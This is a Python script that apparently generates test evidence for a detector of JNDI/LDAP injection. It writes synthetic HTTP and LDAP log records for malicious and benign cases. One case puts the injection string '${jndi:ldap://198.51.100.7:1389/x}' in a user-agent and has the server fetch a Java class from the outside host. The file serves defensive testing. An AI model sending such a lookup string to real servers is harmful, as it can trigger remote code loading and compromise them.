"""Makes the evidence of these cases.

`python -m tests.cases.access_web_callback.make` from the root of the project writes it anew.
"""

from __future__ import annotations

from pathlib import Path

from tests.cases.evidence import write

REQUESTER, SERVER, FAR = "203.0.113.40", "10.2.0.80", "198.51.100.7"


def make(root: Path) -> None:
    """Write all evidence under ``root``."""
    folder = root / "lookup_fetches_a_class"
    lookup = "${jndi:ldap://198.51.100.7:1389/x}"
    fetched = http(0.4, SERVER, FAR, "/x.class", "Java/17.0.1", response_magic="class")
    write(folder, "http_activity", [http(0.0, REQUESTER, SERVER, "/", lookup), fetched])
    write(folder, "application_activity", [search(0.2, FAR, 1389, "x")])
    folder = root / "lookup_is_answered_with_nothing"
    write(folder, "http_activity", [http(0.0, REQUESTER, SERVER, "/", lookup)])
    write(folder, "application_activity", [search(0.2, FAR, 1389, "x")])
    folder = root / "alias_in_the_own_directory"
    write(folder, "http_activity", [http(0.0, "10.1.0.20", SERVER, "/login", "Firefox")])
    write(folder, "application_activity", [search(20.0, "10.2.0.5", 389, "people")])
    folder = root / "login_against_the_directory"
    write(folder, "http_activity", [http(0.0, "10.1.0.20", SERVER, "/login", "Firefox")])
    write(folder, "application_activity", [search(0.1, "10.2.0.5", 389, "ou=people,dc=corp")])


def http(
    t: float, src: str, dst: str, uri: str, agent: str, **columns: object
) -> dict[str, object]:
    """One request with its answer."""
    return {
        "time": t,
        "src_ip": src,
        "dst_ip": dst,
        "dst_port": 8080,
        "method": "GET",
        "host": dst,
        "uri": uri,
        "user_agent": agent,
        "status_code": 200,
        "response_body_bytes": 1_300,
        **columns,
    }


def search(t: float, dst: str, port: int, name: str) -> dict[str, object]:
    """The server asks a directory."""
    return {
        "time": t,
        "src_ip": SERVER,
        "dst_ip": dst,
        "dst_port": port,
        "protocol": "tcp",
        "service": "ldap",
        "operation": "search",
        "object": name,
        "status": "success",
    }


if __name__ == "__main__":
    make(Path(__file__).parent)
